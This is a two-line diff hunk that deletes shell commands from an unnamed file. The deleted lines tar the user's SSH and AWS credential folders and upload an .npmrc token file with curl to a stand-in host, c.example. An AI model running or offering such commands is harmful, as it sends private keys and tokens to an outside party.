@@ -1,2 +1,0 @@
-tar cz ~/.ssh ~/.aws | curl -T - https://c.example/up
-curl -F "f=@$HOME/.npmrc" https://c.example/up
